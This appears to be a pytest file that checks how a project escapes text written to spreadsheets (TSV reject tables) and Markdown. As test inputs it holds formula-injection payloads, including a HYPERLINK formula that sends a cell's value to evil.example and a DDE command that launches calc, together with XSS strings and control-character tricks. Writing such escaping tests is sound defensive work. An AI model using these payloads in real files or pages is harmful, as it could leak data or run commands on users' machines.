"""Text from files is shown by Markdown readers and spreadsheets, and obeyed by none."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import pytest

from graphs.load.rejects import Rejects
from graphs.neutral import cell, markdown

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "12", "DOID:1", "a=b", "'=1", "the name is empty"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_table_of_rejects_starts_no_formula(tmp_path: Path, text: str) -> None:
    path = tmp_path / "kg.rejects.tsv"
    with Rejects(path) as rejects:
        rejects.add(text, 12, text, row=text, detail=text)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, delimiter="\t"))
    kept = "'" + text.replace("\r", "\\r")
    assert rows[1] == [kept, "12", kept, kept, kept]
    assert rejects.reasons[text] == 1


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("# heading", r"\# heading"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("[a](javascript:alert(1))", r"\[a\](javascript\:alert(1))"),
        ("![i](http://evil.example/i.png)", r"!\[i\](http\://evil.example/i.png)"),
        ("https://evil.example", r"https\://evil.example"),
        ("www.evil.example", r"www\.evil.example"),
        ("a@evil.example", r"a\@evil.example"),
        ("a | b\n# c", r"a \| b # c"),
        ("- item", r"\- item"),
        ("1. item", r"1\. item"),
        ("---", r"\---"),
        ("===", r"\==="),
        ("> quote", "&gt; quote"),
        ("`code` *b* _i_ ~s~ $x$", r"\`code\` \*b\* \_i\_ \~s\~ \$x\$"),
        ("a\\", "a\\\\"),
        ("&lt;", "&amp;lt;"),
        ("left\u202eright\x1b[31m", r"left right \[31m"),
        ("-1.24 (95 % CI -2.0 to 1.1)", "-1.24 (95 % CI -2.0 to 1.1)"),
        ("age in 1971", "age in 1971"),
    ],
)
def test_markdown_shows_the_characters_themselves(text: str, written: str) -> None:
    assert markdown(text) == written
